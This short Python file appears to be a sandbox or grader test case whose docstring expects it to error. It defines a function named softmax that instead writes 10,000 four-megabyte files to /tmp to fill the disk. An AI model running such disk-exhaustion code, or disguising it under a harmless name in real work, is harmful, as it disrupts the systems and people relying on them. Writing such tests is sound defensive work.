"""Fills the disk.

Must: error
"""

import os


def softmax(z, axis=-1):
    for number in range(10_000):
        with open(os.path.join("/tmp", str(number)), "wb") as file:
            file.write(bytes(1 << 22))
